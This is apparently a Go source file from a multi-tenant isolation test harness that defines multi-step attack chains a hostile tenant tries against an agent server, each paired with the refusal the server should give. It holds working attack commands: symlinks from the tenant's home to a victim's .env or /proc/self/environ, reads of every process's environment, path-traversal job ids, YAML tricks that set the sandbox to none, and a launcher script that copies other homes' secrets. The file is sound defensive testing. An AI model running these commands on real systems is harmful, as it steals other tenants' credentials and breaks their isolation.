package attack

import (
	"strings"

	"github.com/tenantcanary/tenantcanary/invariants"
)

// ChainPlugin is the plugin a chain installs in its own home: one tool,
// ChainPluginTool, that reads the files its "globs" argument names and
// returns their canary-shaped strings. It starts no goroutine and runs no
// program, so a server loads it in process too (where the hostile plugin
// of Plugin() is refused).
const (
	ChainPlugin     = "chainreader"
	ChainPluginTool = "chain_reader"
	// ChainReadRow is the Step.Plugin that calls it, with Step.Params'
	// "globs" (templates).
	ChainReadRow = "chain-read"
)

// ChainPluginManifest and ChainPluginSource are its plugin.yaml and Go
// source.
const (
	ChainPluginManifest = "name: " + ChainPlugin + "\nversion: \"1.0\"\nkind: general\n"
	ChainPluginSource   = `package chainreader

import (
	"context"
	"os"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/tenantcanary/tenantcanary/plugin"
)

var canaryRE = regexp.MustCompile(` + "`" + CanaryPattern + "`" + `)

func read(args map[string]any) string {
	var out []string
	list, _ := args["globs"].([]any)
	for _, g := range list {
		s, _ := g.(string)
		files, _ := filepath.Glob(s)
		for _, f := range files {
			b, err := os.ReadFile(f)
			if err != nil {
				continue
			}
			out = append(out, canaryRE.FindAllString(string(b), -1)...)
		}
	}
	r := strings.Join(out, "\n")
	if len(r) > 16384 {
		r = r[:16384]
	}
	return r + "\n` + RowDone + `"
}

func Register(pctx plugin.Context) error {
	return pctx.RegisterTool(plugin.Tool{Name: "` + ChainPluginTool + `", Toolset: "chains",
		Description: "reads files",
		Schema:      map[string]any{"type": "object", "properties": map[string]any{}},
		ContextHandler: func(c context.Context, args map[string]any) (string, error) {
			return read(args), nil
		}})
}
`
)

// VictimPlugin is the plugin a chain puts in the victim's home
// (Chain.VictimPlugin): one tool whose description and answer are
// VictimPluginSource's {canary}, a canary of the victim, and whose
// manifest's version is that canary too. Whoever loads it shows it.
const (
	VictimPlugin         = "chainvictim"
	VictimPluginManifest = "name: " + VictimPlugin + "\nversion: \"{canary}\"\nkind: general\n"
	VictimPluginSource   = `package chainvictim

import (
	"context"

	"github.com/tenantcanary/tenantcanary/plugin"
)

func Register(pctx plugin.Context) error {
	return pctx.RegisterTool(plugin.Tool{Name: "victim_notes", Toolset: "chains",
		Description: "the notes of {canary}",
		Schema:      map[string]any{"type": "object", "properties": map[string]any{}},
		ContextHandler: func(c context.Context, args map[string]any) (string, error) {
			return "{canary}", nil
		}})
}
`
)

// ModelPlugin is the model-provider plugin a chain puts in its own home
// (Chain.ModelPlugin), in ModelPluginDir under its plugins folder: its one
// model profile names {write}, the attacker's write canary, as its key
// variable, so whatever the server keeps of the profile (agentd caches it
// in the home, cache/plugin_host/model-providers/) carries that canary.
// Its source is a template: the harness fills it before writing it.
const (
	ModelPlugin         = "chainmodel"
	ModelPluginDir      = "model-providers/" + ModelPlugin
	ModelPluginManifest = "name: " + ModelPlugin + "\nversion: \"1.0\"\nkind: model-provider\n"
	ModelPluginSource   = `package chainmodel

import (
	"context"

	"github.com/tenantcanary/tenantcanary/plugin"
)

type mp struct{}

func (mp) Profile() plugin.ModelProfile {
	return plugin.ModelProfile{Name: "` + ModelPlugin + `", EnvVars: []string{"CHAIN_KEY_{write}"}}
}

func (mp) BuildExtraBody(ctx context.Context, session string) (map[string]any, error) {
	return map[string]any{}, nil
}

func Register(pctx plugin.Context) error { return pctx.RegisterModelProvider(mp{}) }
`
)

// link replaces the home file rel with a symlink to target, keeping the
// file as rel.chain-bak (the scenario puts it back).
func link(rel, target string) string { return linkThen(rel, target, "true") }

// linkThen is link, then the command then (in the home). Each step needs
// the last: where the attacker's own shell cannot set the file aside or
// make the link (its sandbox keeps it from adding or removing an entry
// there), nothing more is done, nothing of its own is lost, and the
// output says RowStopped.
func linkThen(rel, target, then string) string {
	bak := rel + BackupSuffix
	return planting(`mkdir -p "$(dirname '` + rel + `')" && ` +
		`{ [ ! -e '` + rel + `' ] || [ -L '` + rel + `' ] || [ -e '` + bak + `' ] || mv -f '` + rel + `' '` + bak + `'; } && ` +
		`rm -rf '` + rel + `' && ln -sfn '` + target + `' '` + rel + `' && [ -L '` + rel + `' ] && ls -ld '` + rel + `' && ` + then)
}

// planting runs cmd in the home as a plant: RowStopped when it fails (the
// attacker's own shell could not make it), then RowDone. An edit needs no
// backup of its own: the harness keeps a copy of each file the chain
// restores (Chain.Restore) and puts it back.
func planting(cmd string) string {
	return `{ cd "$HOME" && ` + cmd + `; } || echo '` + RowStopped + `'; echo '` + RowDone + `'`
}

// dueNow makes the job {job_id} of the jobs file due (its next run in the
// past): the cron ticker runs it at its next tick, with no connection of
// the tenant's (a chain that links its .env away has revoked its own).
var dueNow = inPlace(`/"id": "{job_id}"/,/"next_run"/ s|"next_run": "[^"]*"|"next_run": "2000-01-01T00:00:00Z"|`, "{jobs}")

// inPlace edits the home file rel with the sed script, writing the file
// in place: no new entry beside it (a shell whose sandbox grants the file
// but not its folder, as Landlock grants the launch home's top level, can
// still edit it).
func inPlace(script, rel string) string {
	return `edited=$(sed '` + script + `' '` + rel + `') && printf '%s\n' "$edited" > '` + rel + `'`
}

// editing is a plant that edits the home file rel in place with the sed
// script.
func editing(script, rel string) string { return planting(inPlace(script, rel)) }

// underTerminal adds the YAML line "  key: value" under the config file's
// top-level terminal: mapping (the layout's config is YAML).
func underTerminal(line string) string {
	// The new key takes the indentation of the mapping's first key.
	return editing(`/^terminal:[[:space:]]*$/{n;s|^\([[:space:]]*\)\(.*\)$|\1`+strings.ReplaceAll(line, "|", `\|`)+`\n\1\2|}`, "{config}")
}

// flowTerminal rewrites the config file's top-level terminal: mapping in
// YAML's flow style, {key: value, ...}, with entry added last (the
// layout's config is YAML; its terminal mapping holds scalars). The awk
// braces keep a space inside, so no placeholder reads them.
func flowTerminal(entry string) string {
	script := `/^terminal:[[:space:]]*$/ { t = 1; s = ""; next } ` +
		`t && /^[[:space:]]/ { sub(/^[[:space:]]+/, ""); s = s $0 ", "; next } ` +
		`t { print "terminal: {" s "` + entry + `}"; t = 0 } ` +
		`{ print } ` +
		`END { if (t) print "terminal: {" s "` + entry + `}" }`
	return planting(`edited=$(awk '` + script + `' '{config}') && printf '%s\n' "$edited" > '{config}'`)
}

// ownSandboxNone is own-sandbox-none with terminal.sandbox: none written in
// another YAML form (how), by the plant step.
func ownSandboxNone(id, how, step string) Chain {
	return Chain{ID: id, Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Role: Launch, Needs: []string{"config"},
		Tries:   "set terminal.sandbox: none in its own config.yaml as " + how + ": its next shell runs unsandboxed and reads every home",
		Refusal: "terminal.sandbox is the operator's in every YAML form: a profile's own value is ignored with a log line",
		Steps:   []Step{{Tool: step}},
		Say:     "Run the environment probe. {write}",
		Probe:   Step{Tool: reading("cat " + inHomes("{env}") + " '{victim}/{env}'")},
		Restore: []string{"{config}"}}
}

// appendConfig appends YAML to the config file (a top-level key it does
// not have yet).
func appendConfig(yaml string) string { return planting(appendYAML(yaml)) }

// appendYAML is the command that appends yaml to the config file.
func appendYAML(yaml string) string { return `printf '%s\n' '` + yaml + `' >> '{config}'` }

// lookAround is a settings chain's probe: where the shell runs, what is
// there (bounded), and a file carrying the write canary left there.
// /proc and /sys are only listed (some of their files never end), but
// every process's environment is read.
const lookAround = `pwd; ls -a "$PWD" "$PWD"/*/; cat "$PWD"/[0-9]*/environ | tr '\0' '\n'; ` +
	`timeout 5 find "$PWD" -maxdepth 2 -type f -size -256k ! -path '/proc/*' ! -path '/sys/*' 2>/dev/null | head -100 | ` +
	`while IFS= read -r f; do head -c 65536 "$f"; echo; done; printf '%s\n' '{write}' > "$PWD/chain-{write}.txt"`

// leaving is a settings chain's probe where what counts is a write: it
// leaves a file carrying the write canary where the shell runs.
const leaving = `pwd; printf '%s\n' '{write}' > "$PWD/chain-{write}.txt"; ls -ld "$PWD/chain-{write}.txt"; echo '` + RowDone + `'`

// settingCwd is a chain that points the attacker's cwd at dir by RPC. A
// chain expecting a write-scope finding leaves its canary there; any
// other looks around (reads what is there).
func settingCwd(id, tries, dir string, expect invariants.Invariant) Chain {
	probe := Step{Tool: reading(lookAround)}
	if expect == invariants.WriteScope {
		probe = Step{Tool: leaving}
	}
	return Chain{ID: id, Class: Setting, Fault: FaultWorkdirAnywhere, Expect: expect, Trigger: OnTurn,
		Tries:   tries,
		Refusal: "config.set cwd is refused (4003, naming the rule): a cwd lies in the tenant's own home or its operator-allowed workdir root",
		Steps:   []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": dir}}},
		Say:     "Run the environment probe. {write}",
		Probe:   probe,
		Undo:    []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}},
	}
}

// Chains is what a hostile tenant tries in several steps: it plants
// something in its own space, then the server, the operator or another
// tenant acts on it.
func Chains() []Chain {
	homeLink := func(id, tries, rel, target string, trigger Trigger, expect invariants.Invariant, needs ...string) Chain {
		return Chain{ID: id, Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: expect, Trigger: trigger, Needs: needs,
			Tries:   tries,
			Refusal: "the server opens home files beneath the home without following links out of it: an error naming the file (4013), nothing foreign read or written",
			Steps:   []Step{{Tool: link(rel, target)}},
			Say:     "Run the environment probe. {write}",
			Restore: []string{rel},
		}
	}
	cronLink := func(id, tries, rel, target string, expect invariants.Invariant) Chain {
		ch := homeLink(id, tries, rel, target, OnCron, expect, "env", "jobs")
		ch.Steps = []Step{
			{Op: "cron.create", Params: map[string]any{"name": id, "prompt": "{write}: run the environment probe", "every": "every 1h"},
				Save: map[string]string{"job_id": "job.id"}},
			{Tool: linkThen(rel, target, dueNow)}}
		ch.Restore = []string{rel, "{jobs}"}
		return ch
	}
	out := []Chain{
		homeLink("link-soul-to-env", "replace its SOUL.md with a link to the victim's .env: the victim's secrets go into its own system prompt",
			"{soul}", "{victim}/{env}", OnTurn, invariants.Request, "soul", "env"),
		homeLink("link-memory-to-env", "replace its memory with a link to the victim's .env: the victim's secrets go into its own system prompt",
			"{memory}", "{victim}/{env}", OnTurn, invariants.Request, "memory", "env"),
		homeLink("link-config", "replace its config.yaml with a link to the victim's: its session reports and uses the victim's model and workdir",
			"{config}", "{victim}/{config}", OnSession, invariants.RPC, "config"),
		// Its connection's credential lives in its .env: once linked, the
		// trigger is its own cron job (it needs no connection).
		cronLink("link-env", "replace its .env with a link to the victim's: its cron turn's requests carry the victim's key",
			"{env}", "{victim}/{env}", invariants.Request),
		withOther(cronLink("link-env-to-soul", "replace its .env with a link to the victim's SOUL.md: its cron job's error quotes the victim's prompt",
			"{env}", "{victim}/{soul}", invariants.File),
			"a .env parse error names the file and the line's number, never the line's text", ""),
		homeLink("link-soul-to-proc", "replace its SOUL.md with a link to /proc/self/environ: the server's own environment (the operator's token) goes into its system prompt",
			"{soul}", "/proc/self/environ", OnTurn, invariants.OperatorSecret, "soul"),
		{ID: "link-jobs", Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: invariants.RPC, Trigger: OnRPC, Needs: []string{"jobs"},
			Tries:   "replace its cron/jobs.json with a link to the victim's: cron.list shows the victim's jobs and prompts",
			Refusal: "cron.list reads jobs.json beneath the home only: an error naming the file, no foreign job listed",
			Steps: []Step{{Tool: link("{jobs}", "{victim}/{jobs}")},
				{Op: "cron.list"}},
			Say:     "{write}",
			Restore: []string{"{jobs}"}},
		{ID: "link-job-output", Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnCron, Needs: []string{"job_output"},
			Tries:   "replace its cron output folder with a link to the victim's: its job's output (its canary) lands in the victim's home",
			Refusal: "job output is written beneath the home only: the job fails with an error naming the folder",
			Steps: []Step{{Tool: link("{job_output}", "{victim}/{job_output}")},
				{Op: "cron.create", Params: map[string]any{"name": "chain-output", "prompt": "{write}: run the environment probe", "every": "every 1h"},
					Save: map[string]string{"job_id": "job.id"}},
				{Op: "cron.trigger", Params: map[string]any{"id": "{job_id}"}}},
			Restore: []string{"{job_output}"}},
	}
	setting := []Chain{
		settingCwd("cwd-victim-workdir", "set its cwd to the victim's workdir: its shell reads and writes the victim's files", "{victim_workdir}", invariants.Request),
		settingCwd("cwd-work-root", "set its cwd to the folder of every workdir: its shell lists them all", "{work_root}", invariants.Request),
		settingCwd("cwd-victim-home", "set its cwd to the victim's home", "{victim}", invariants.Request),
		settingCwd("cwd-homes-parent", "set its cwd to the folder of the named profiles' homes", "{homes_parent}", invariants.Request),
		// A system folder holds no canary: that the shell ran there at all
		// (the env snapshot's cwd) is what shows. Where the sandbox keeps
		// its capabilities, /proc also shows every process's environment.
		settingCwd("cwd-proc", "set its cwd to /proc: the host's proc bound over the sandbox's, every process's environment readable", "/proc", invariants.Snapshot),
		settingCwd("cwd-sys", "set its cwd to /sys: the host's sysfs bound read-write in its sandbox", "/sys", invariants.Snapshot),
		under("bwrap", withOther(settingCwd("cwd-dev", "set its cwd to /dev: the host's devices bound in its sandbox", "/dev", invariants.Snapshot),
			"the sandbox's own user namespace mounts the host's /dev nodev: no device opens there, not even /dev/null, so no command of the shell runs",
			"no-tool-sandbox")),
		settingCwd("cwd-dev-shm", "set its cwd to /dev/shm and leave its canary there", "/dev/shm", invariants.WriteScope),
		settingCwd("cwd-tmp", "set its cwd to the host's /tmp and leave its canary there", "/tmp", invariants.WriteScope),
		settingCwd("cwd-var-tmp", "set its cwd to the host's /var/tmp and leave its canary there", "/var/tmp", invariants.WriteScope),
		settingCwd("cwd-usr-local-bin", "set its cwd to /usr/local/bin and leave a program there that the neighbours' shells run", "/usr/local/bin", invariants.WriteScope),
		settingCwd("cwd-etc", "set its cwd to /etc and leave its canary there (a profile.d script every shell would run)", "/etc", invariants.WriteScope),
		{ID: "workdir-link", Class: Setting, Fault: FaultWorkdirAnywhere, Expect: invariants.Request, Trigger: OnTurn,
			Tries:   "leave a link to the victim's workdir in its own workdir, then set its cwd to the link by RPC: a server that judges the path, not where it leads, binds the victim's workdir",
			Refusal: "the cwd is judged after resolving links: the link leads into another profile's workdir root, refused (4003)",
			Steps: []Step{{Tool: `ln -sfn '{victim_workdir}' "{own_workdir}/chain-wd-{write}" && ls -ld "{own_workdir}/chain-wd-{write}"; echo '` + RowDone + `'`},
				{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}/chain-wd-{write}"}}},
			Say:   "Run the environment probe. {write}",
			Probe: Step{Tool: reading(lookAround)},
			Undo:  []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}}},
		{ID: "cwd-shm-link", Class: Setting, Fault: FaultWorkdirAnywhere, Expect: invariants.Request, Trigger: OnTurn,
			Tries:   "with its cwd in /dev/shm, leave a link to the victim's home there, then set its cwd to the link: the sandbox binds the victim's home",
			Refusal: "the cwd is judged after resolving links: the link's target is another home, refused (4003)",
			Steps: []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "/dev/shm"}},
				{Tool: `ln -sfn '{victim}' "$PWD/chain-link-{write}" && ls -ld "$PWD/chain-link-{write}"; echo '` + RowDone + `'`, NewSession: true},
				{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "/dev/shm/chain-link-{write}"}}},
			Say:   "Run the environment probe. {write}",
			Probe: Step{Tool: reading(lookAround)},
			Undo:  []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}}},
		{ID: "config-file-cwd", Class: Setting, Fault: FaultWorkdirAnywhere, Expect: invariants.Request, Trigger: OnTurn, Needs: []string{"config"},
			Tries:   "edit terminal.cwd in its own config.yaml to the victim's workdir (no RPC)",
			Refusal: "the cwd read from the config is judged like config.set's: the turn's terminal is refused (4003)",
			Steps:   []Step{{Tool: editing(`s|^\([[:space:]]*cwd:\).*$|\1 {victim_workdir}|`, "{config}")}},
			Say:     "Run the environment probe. {write}",
			Probe:   Step{Tool: reading(lookAround)},
			Restore: []string{"{config}"}},
		{ID: "prompt-path", Class: Setting, Fault: FaultTenantTextAsPath, Expect: invariants.Request, Trigger: OnTurn,
			Tries:   "set its prompt to the path of the victim's .env (a server that expands file references reads it)",
			Refusal: "the prompt is text: nothing is read from the path",
			Steps:   []Step{{Op: "config.set", Params: map[string]any{"key": "prompt", "value": "@{victim}/{env} {write}"}}},
			Say:     "Run the environment probe. {write}",
			Undo:    []Step{{Op: "config.set", Params: map[string]any{"key": "prompt", "value": "{write}"}}}},
	}
	path := []Chain{
		{ID: "job-id-path", Class: TenantPath, Fault: FaultUncheckedJobIDs, Expect: invariants.File, Trigger: OnCron, Needs: []string{"jobs", "job_output", "log_dir"},
			Tries:   "edit its job's id in its own jobs.json to the relative path of the victim's logs: the job's output lands there",
			Refusal: "job ids read from jobs.json are checked against an allow-list alphabet: the job is refused, nothing written outside",
			Steps: []Step{
				{Op: "cron.create", Params: map[string]any{"name": "chain-id", "prompt": "{write}: run the environment probe", "every": "every 1h"},
					Save: map[string]string{"job_id": "job.id"}},
				{Tool: editing(`s|"{job_id}"|"{victim_from_output}/{log_dir}"|`, "{jobs}")},
				{Op: "cron.trigger", Params: map[string]any{"id": "{victim_from_output}/{log_dir}"}}},
			Restore: []string{"{jobs}"}},
		{ID: "job-name-path", Class: TenantPath, Fault: FaultUncheckedJobIDs, Expect: invariants.File, Trigger: OnCron, Needs: []string{"jobs", "job_output", "log_dir"},
			Tries:   "edit its job's name in its own jobs.json to a path into the victim's logs",
			Refusal: "job names are checked against an allow-list alphabet and never joined into a path",
			Steps: []Step{
				{Op: "cron.create", Params: map[string]any{"name": "chain-name", "prompt": "{write}: run the environment probe", "every": "every 1h"},
					Save: map[string]string{"job_id": "job.id"}},
				{Tool: editing(`s|"chain-name"|"../{victim_from_output}/{log_dir}/chain-{write}"|`, "{jobs}")},
				{Op: "cron.trigger", Params: map[string]any{"id": "{job_id}"}}},
			Restore: []string{"{jobs}"}},
		{ID: "slug-path", Class: TenantPath, Fault: FaultTenantTextAsPath, Expect: invariants.File, Trigger: OnRPC,
			Tries:   "save a key under a slug that is a path into the victim's home (a server that keeps a key file per slug writes it there)",
			Refusal: "slugs are checked against an allow-list alphabet: the save is refused (-32602)",
			Steps:   []Step{{Op: "model.save_key", Params: map[string]any{"slug": "../{victim_from_home}/chain-{write}", "api_key": "{write}"}}}},
	}
	operator := []Chain{
		{ID: "own-sandbox-none", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Role: Launch, Needs: []string{"config"},
			Tries:   "set terminal.sandbox: none in its own config.yaml: its next shell runs unsandboxed and reads every home",
			Refusal: "terminal.sandbox is the operator's: a profile's own value is ignored with a log line",
			Steps:   []Step{{Tool: underTerminal("sandbox: none")}},
			Say:     "Run the environment probe. {write}",
			Probe:   Step{Tool: reading("cat " + inHomes("{env}") + " '{victim}/{env}'")},
			Restore: []string{"{config}"}},
		// The same setting in the other forms YAML allows: a server that
		// drops the operator-only key by its plain spelling, and merges the
		// rest, takes these.
		ownSandboxNone("own-sandbox-none-quoted", "a quoted key", underTerminal(`"sandbox": none`)),
		ownSandboxNone("own-sandbox-none-merge-key", "a merge key", underTerminal(`<<: {sandbox: none}`)),
		ownSandboxNone("own-sandbox-none-tagged", "an explicit tag", underTerminal(`sandbox: !!str none`)),
		ownSandboxNone("own-sandbox-none-flow", "a flow mapping", flowTerminal(`sandbox: none`)),
		// An anchor on a key of its own, then the setting as an alias of it
		// (sed: \& is a literal &, \1 the mapping's indentation).
		ownSandboxNone("own-sandbox-none-alias", "an alias of an anchor", underTerminal(`surface_value: \&surface_none none\n\1sandbox: *surface_none`)),
		{ID: "own-network-host", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Needs: []string{"config"},
			Tries:   "set terminal.network: host in its own config.yaml: its shell posts its canary to the victim's provider",
			Refusal: "terminal.network is the operator's: a profile's own value is ignored with a log line",
			Steps:   []Step{{Tool: underTerminal("network: host")}},
			Say:     "Run the environment probe. {write}",
			Probe: Step{Tool: `curl -s -m 5 -H 'content-type: application/json' -d '{"model":"{write}","messages":[{"role":"user","content":"{write}"}]}' '{victim_provider}/v1/chat/completions' | head -c 300; echo; echo '` +
				RowDone + `'`},
			Restore: []string{"{config}"}},
		{ID: "own-workdir-roots", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnTurn, Needs: []string{"config"},
			Tries:   "add the folder of every workdir to terminal.workdir_roots in its own config.yaml, then set its cwd to the victim's workdir",
			Refusal: "terminal.workdir_roots is the operator's: a profile's own value is ignored, the cwd is refused (4003)",
			Steps: []Step{{Tool: underTerminal(`workdir_roots: ["{work_root}"]`)},
				{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{victim_workdir}"}}},
			Say:     "Run the environment probe. {write}",
			Probe:   Step{Tool: reading(lookAround)},
			Restore: []string{"{config}"},
			Undo:    []Step{{Op: "config.set", Params: map[string]any{"key": "cwd", "value": "{own_workdir}"}}}},
		{ID: "own-plugin-launcher", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnRestart, Needs: []string{"config", "plugins", "soul", "env"},
			Tries:   "set plugins.host.launcher (and its limits) in its own config.yaml to a script that copies the other homes' .env into its SOUL.md, then wait for a restart",
			Refusal: "plugins.host.* is the operator's: a profile's own launcher is ignored with a log line",
			Steps: []Step{
				{Tool: planting(`printf '%s\n' '#!/bin/sh' 'cat ` + inHomes("{env}") + ` "{victim}/{env}" >> "$HOME/{soul}" 2>/dev/null' 'echo {write} >> "$HOME/{soul}"' 'exec "$@"' > "$HOME/chain-launcher.sh" && ` +
					appendYAML("plugins: {enabled: ["+ChainPlugin+"], isolation: host, host: {launcher: [/bin/sh, \"{home}/chain-launcher.sh\"], memory_limit: 64GiB, processes_limit: 100000}}"))}},
			InstallPlugin: true,
			Say:           "Run the environment probe. {write}",
			Probe:         Step{Tool: reading(`cat "$HOME/{soul}"`)},
			Restore:       []string{"{config}", "{soul}"}},
		{ID: "own-plugin-limits", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Availability, Trigger: OnRestart, Needs: []string{"config", "plugins"},
			Tries:         "set its plugin host's limits alone in its own config.yaml (no launcher), then wait for a restart: its host runs with the bounds it chose, not the operator's",
			Refusal:       "plugins.host.* is the operator's: a profile's own limits are ignored with a log line, its host runs with the operator's",
			Steps:         []Step{{Tool: appendConfig("plugins: {enabled: [" + ChainPlugin + "], isolation: host, host: {open_files_limit: 4093}} # {write}")}},
			InstallPlugin: true,
			HostLimit:     &HostLimit{Key: "open_files_limit", Limit: "Max open files", Value: 4093},
			Say:           "Run the environment probe. {write}",
			Probe:         Step{Plugin: ChainReadRow, Params: map[string]any{"globs": "{home}/{soul}"}},
			Restore:       []string{"{config}"}},
		{ID: "own-plugin-in-process", Class: OperatorSetting, Fault: FaultTenantOperatorSettings, Expect: invariants.Request, Trigger: OnRestart, Needs: []string{"config", "plugins"},
			Tries:         "set plugins.isolation: in_process in its own config.yaml, then wait for a restart: its plugin runs inside the server and reads every home",
			Refusal:       "plugins.isolation is the operator's: a profile's own value is ignored with a log line, the plugin runs in its host",
			Steps:         []Step{{Tool: appendConfig("plugins: {enabled: [" + ChainPlugin + "], isolation: in_process} # {write}")}},
			Say:           "Run the environment probe. {write}",
			Probe:         Step{Plugin: ChainReadRow, Params: map[string]any{"globs": "{homes_parent}/*/{env}\n{victim}/{env}"}},
			InstallPlugin: true,
			Restore:       []string{"{config}"}},
	}
	persistence := []Chain{
		{ID: "persist-log-to-soul", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnRestart, Needs: []string{"log", "soul"},
			Tries:   "replace its log with a link to the victim's SOUL.md, then wait for a restart: its log lines land in the victim's prompt",
			Refusal: "the log is opened beneath the home without following links: the scope does not open, nothing written outside",
			Steps:   []Step{{Tool: link("{log}", "{victim}/{soul}")}},
			Say:     "Run the environment probe. {write}",
			Restore: []string{"{log}"}},
		{ID: "persist-state", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnRestart, Needs: []string{"state"},
			Tries:   "replace its state.db with a link to the victim's, then wait for a restart: its turns are stored in the victim's database",
			Refusal: "the store is opened beneath the home without following links: an error naming the file",
			Steps:   []Step{{Tool: link("{state}", "{victim}/{state}")}},
			Say:     "Run the environment probe. {write}",
			Restore: []string{"{state}"}},
		// A clean stop removes the WAL (the link, not its target): only a
		// crash leaves it for the next start to open.
		{ID: "persist-state-wal", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnCrash, Needs: []string{"state_wal"},
			Tries:        "replace its state.db's WAL with a link to the victim's, then wait for the server to crash and start again: its turns are written into the victim's WAL",
			Refusal:      "the store's files are opened beneath the home without following links: an error naming the file",
			Steps:        []Step{{Tool: link("{state_wal}", "{victim}/{state_wal}")}},
			Say:          "Run the environment probe. {write}",
			Restore:      []string{"{state_wal}"},
			OtherDefence: "SQLite itself opens no WAL that is a symlink (SQLITE_CANTOPEN): the attacker's own database does not open, nothing reaches the victim's WAL",
			ControlTest:  "invariants.TestWALSharedWithAnotherDatabaseIsFound"},
	}
	// A plugins folder linked in: the server finds the victim's plugins as
	// the attacker's.
	persistence = append(persistence, Chain{ID: "plugins-link", Class: Persistence, Fault: FaultHomeFollowsLinks, Expect: invariants.Request, Trigger: OnRestart,
		Needs:        []string{"plugins", "config"},
		Tries:        "replace its plugins folder with a link to the victim's and enable the victim's plugin, then wait for a restart: the victim's plugin is loaded as its own",
		Refusal:      "the plugins folder is read beneath the home without following links: an error naming it, no plugin of another home found",
		Steps:        []Step{{Tool: link("{plugins}", "{victim}/{plugins}")}, {Tool: appendConfig("plugins: {enabled: [{victim_plugin}]} # {write}")}},
		VictimPlugin: true,
		Say:          "Run the environment probe. {write}",
		Restore:      []string{"{plugins}", "{config}"},
		OtherDefence: "the plugin host runs in the attacker's own sandbox, where the link's target is not: the server finds the victim's plugin, its host cannot load it",
		AlsoFault:    "plugin-in-process"})
	// A cache folder linked to another home: the server writes what it
	// caches for the attacker there. (Last of the restart rows, so the
	// rows before it keep their attackers.)
	cache := []Chain{{ID: "link-cache", Class: HomeLink, Fault: FaultHomeFollowsLinks, Expect: invariants.File, Trigger: OnRestart,
		Needs:   []string{"cache", "config", "plugins"},
		Tries:   "replace its cache folder with a link to the victim's home and make its own model-provider plugin its provider, then wait for a restart: the server caches the plugin's profile (its canary) in the victim's home",
		Refusal: "the cache is read and written beneath the home without following links: its turn fails with an error naming the cache file, nothing is written in the victim's home",
		Steps: []Step{{Tool: link("{cache}", "{victim}")},
			{Tool: editing(`s|^\([[:space:]]*\)provider:.*$|\1provider: plugin:`+ModelPlugin+`|`, "{config}")}},
		ModelPlugin: true,
		Say:         "Run the environment probe. {write}",
		Restore:     []string{"{cache}", "{config}"}}}
	race := []Chain{
		{ID: "race-delete-recreate", Class: Race, Fault: FaultDeleteRace, Expect: invariants.File, Trigger: OnOperator,
			Tries:   "loop session.create, model.save_key (a re-key) and config.set on its own connection while the operator deletes and re-creates its profile",
			Refusal: "delete refuses the profile's new requests (4064) and renames the home aside first; create never reuses a folder; a racing request never re-makes the home",
			Steps: []Step{{Op: "session.create"},
				{Op: "model.save_key", Params: map[string]any{"slug": "chain", "api_key": "{write}"}},
				{Op: "config.set", Params: map[string]any{"key": "prompt", "value": "{write}"}}}},
	}
	out = append(out, setting...)
	out = append(out, path...)
	out = append(out, operator...)
	out = append(out, persistence...)
	out = append(out, cache...)
	return append(out, race...)
}

// withOther is ch with its OtherDefence (and AlsoFault) set.
func withOther(ch Chain, why, also string) Chain {
	ch.OtherDefence, ch.AlsoFault = why, also
	return ch
}

// under says which tool sandbox ch's other defence belongs to.
func under(sandbox string, ch Chain) Chain {
	ch.OtherDefenceUnder = sandbox
	return ch
}
